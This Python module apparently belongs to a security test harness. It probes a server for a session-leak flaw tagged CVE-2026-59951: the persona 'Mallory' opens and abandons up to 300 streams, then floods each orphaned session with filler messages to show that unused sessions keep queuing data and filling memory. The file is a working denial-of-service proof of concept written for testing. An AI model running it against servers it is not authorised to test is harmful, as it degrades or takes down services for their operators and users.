"""Breaks: the server's memory, with sessions that nobody uses any more.

Mallory opens a stream and leaves, again and again. A server that keeps each session in case she
comes back keeps them all, and goes on filling their queues.
"""

import asyncio
from collections import Counter

from attacks.finding import Finding
from attacks.target import Refused, Server, call
from attacks.wire import connected

AGAINST = "server"
CASE = "CVE-2026-59951"

SESSIONS = 300


async def attack(server: Server) -> Finding:
    ids: list[str] = []
    refused = ""
    while len(ids) < SESSIONS and not refused:
        async with connected(server) as wire:
            try:
                ids.append(await wire.open_stream(server.mallory))
            except Refused as answer:
                refused = f"; then {answer}"
    answers: Counter[int] = Counter()
    message = call("filler", "echo", message="x" * 1000)
    async with connected(server) as wire:
        for session_id in ids:
            status, headers = await wire.post(session_id, message, server.mallory)
            while status == 429:  # too fast: that says nothing about the session
                await asyncio.sleep(float(headers["retry-after"]))
                status, headers = await wire.post(session_id, message, server.mallory)
            answers[status] += 1
    if answers[202]:
        return Finding(True, f"{answers[202]} sessions without a client take messages")
    [(status, count)] = answers.most_common(1)
    return Finding(False, f"{len(ids)} opened and left, {count} ids get {status}{refused}")
